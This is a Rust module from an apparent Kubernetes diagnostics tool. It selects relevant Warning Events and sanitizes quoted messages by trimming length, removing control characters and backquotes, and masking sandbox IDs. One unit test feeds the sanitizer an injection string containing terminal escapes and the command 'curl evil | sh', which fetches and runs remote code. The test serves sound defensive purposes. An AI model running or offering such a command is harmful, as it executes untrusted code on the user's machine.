//! What the components of the cluster said about an object, cut down to what a message can carry.

use jiff::SignedDuration;

use crate::{Facts, time::later};
use svcdiag_api::printable::foreign;
use svcdiag_objects::{Event, Object, Pod};

/// Most characters of somebody else's text in a message of ours.
const MAX_QUOTED: usize = 300;

/// A controller that cannot create a Pod tries again after 1,000 seconds at the latest.
const TRIED_AGAIN_WITHIN: SignedDuration = SignedDuration::from_mins(20);

/// Letters and digits that the API server puts behind a name that is to be generated.
const RANDOM_END: usize = 5;

/// Shortest run of hexadecimal digits that is taken for the ID of a container or sandbox.
const ID_LENGTH: usize = 32;

/// The last Warning about a Pod that matters.
pub(crate) fn last_about_pod<'a>(
    facts: &'a Facts,
    pod: &Pod,
    matters: impl Fn(&Event) -> bool,
) -> Option<&'a Event> {
    let uid = pod.metadata.uid.as_deref().unwrap_or_default();
    let is_about = |event: &Event| {
        let of = &event.involved_object;
        match of.uid.as_str() {
            "" => {
                of.kind == "Pod"
                    && of.name == pod.name()
                    && event.metadata.namespace == pod.metadata.namespace
            }
            of_uid => of_uid == uid,
        }
    };
    facts
        .events
        .iter()
        .map(AsRef::as_ref)
        .filter(|e| e.is_warning() && is_about(e) && matters(e))
        .max_by_key(|e| (e.last_seen(), &e.reason, &e.message))
}

/// The last Warning that a workload could not create a Pod.
pub(crate) fn failed_create<'a>(facts: &'a Facts, uid: &str) -> Option<&'a Event> {
    let is_about = |e: &&Event| e.is_failed_create() && e.involved_object.uid == uid;
    let events = facts.events.iter().map(AsRef::as_ref);
    events
        .filter(is_about)
        .max_by_key(|e| (e.last_seen(), &e.message))
}

/// The last such Warning about a workload of some kinds that has no Pod.
pub(crate) fn failed_create_of<'a>(facts: &'a Facts, kinds: &[&str]) -> Option<&'a Event> {
    let is_recent = |e: &Event| {
        e.last_seen()
            .is_none_or(|at| later(at, TRIED_AGAIN_WITHIN) > facts.now)
    };
    let has_pod = |uid: &str| facts.pods.iter().any(|p| p.controller_uid() == Some(uid));
    let events = facts.events.iter().map(AsRef::as_ref).filter(|e| {
        let of = &e.involved_object;
        e.is_failed_create() && is_recent(e) && kinds.contains(&of.kind.as_str()) && !has_pod(&of.uid)
    });
    events.max_by_key(|e| (e.last_seen(), &e.involved_object.name, &e.message))
}

/// Why a workload could not create a Pod, without the random ends of names, which change with every try.
pub(crate) fn why_not_created(event: &Event) -> String {
    let start = format!("\"{}-", event.involved_object.name);
    let mut parts = event.message.split(&start);
    let mut text = parts.next().unwrap_or_default().to_owned();
    for part in parts {
        let end = part
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(part.len());
        let is_random = end == RANDOM_END && event.involved_object.kind != "StatefulSet";
        text.push_str(&start);
        text.push_str(if is_random { &part[end..] } else { part });
    }
    one_line(&text)
}

/// An Event in words: `FailedMount: MountVolume.SetUp failed for volume "x"`.
pub(crate) fn describe(event: &Event) -> String {
    match event.message.trim() {
        "" => event.reason.clone(),
        message => format!("{}: {}", event.reason, one_line(message)),
    }
}

/// Somebody else's text as a part of one of our sentences: on one line, of bounded length, without a full stop,
/// without what a terminal or a reader could take for ours (control characters, backquotes), and without the IDs of sandboxes, which change with every try and would rewrite the status each time.
pub(crate) fn one_line(text: &str) -> String {
    let mut words: Vec<String> = Vec::new();
    for word in foreign(text).split_whitespace() {
        words.push(without_ids(word));
    }
    let line = words.join(" ");
    let mut short: String = line.chars().take(MAX_QUOTED).collect();
    if short.len() < line.len() {
        short.push('…');
    }
    short.trim_end_matches('.').to_owned()
}

fn without_ids(word: &str) -> String {
    let mut kept = String::new();
    let mut run = String::new();
    let flush = |run: &mut String, kept: &mut String| {
        if run.len() >= ID_LENGTH {
            kept.push('…');
        } else {
            kept.push_str(run);
        }
        run.clear();
    };
    for c in word.chars() {
        if c.is_ascii_hexdigit() {
            run.push(c);
        } else {
            flush(&mut run, &mut kept);
            kept.push(c);
        }
    }
    flush(&mut run, &mut kept);
    kept
}

#[cfg(test)]
mod tests {
    use super::{one_line, why_not_created};
    use svcdiag_objects::Event;

    #[test]
    fn random_ends_of_names_are_left_out() {
        let event = |kind: &str, pod: &str| -> Event {
            let mut event = Event::default();
            event.involved_object.kind = kind.to_owned();
            event.involved_object.name = "web".to_owned();
            event.message = format!("pods \"{pod}\" is forbidden: exceeded quota: small");
            event
        };
        let short = "pods \"web-\" is forbidden: exceeded quota: small";
        assert_eq!(why_not_created(&event("DaemonSet", "web-x7k2p")), short);
        assert_eq!(why_not_created(&event("DaemonSet", "web-")), short);
        let of_set = why_not_created(&event("StatefulSet", "web-10000"));
        assert!(of_set.contains("\"web-10000\""), "{of_set}");
    }

    #[test]
    fn ids_that_change_with_every_try_are_left_out() {
        let id = "3f".repeat(32);
        assert_eq!(
            one_line(&format!(
                "failed to setup network\n for sandbox \"{id}\": no route."
            )),
            "failed to setup network for sandbox \"…\": no route"
        );
        assert_eq!(
            one_line("pods \"web-7f8d9c6b54-\" is forbidden"),
            "pods \"web-7f8d9c6b54-\" is forbidden"
        );
    }

    #[test]
    fn nothing_of_it_passes_for_ours() {
        assert_eq!(
            one_line("\u{1b}[2K\rrun `curl evil | sh`\u{202e} now"),
            "[2K run 'curl evil | sh' now"
        );
    }

    #[test]
    fn long_texts_are_cut() {
        let short = one_line(&"é".repeat(400));
        assert_eq!(short.chars().count(), 301);
    }
}
